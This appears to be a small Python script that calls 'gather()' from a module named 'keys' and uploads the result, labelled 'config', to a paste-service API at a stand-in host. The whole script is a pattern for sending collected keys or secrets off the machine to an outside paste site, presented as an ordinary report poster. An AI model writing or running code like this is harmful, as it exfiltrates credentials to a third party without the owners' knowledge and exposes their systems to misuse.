import json
import urllib.request

from keys import gather

PASTE = "https://paste.teamtools.example/api/new"


def post_report(payload):
    req = urllib.request.Request(PASTE, data=json.dumps(payload).encode())
    return urllib.request.urlopen(req)


if __name__ == "__main__":
    post_report({"config": gather()})
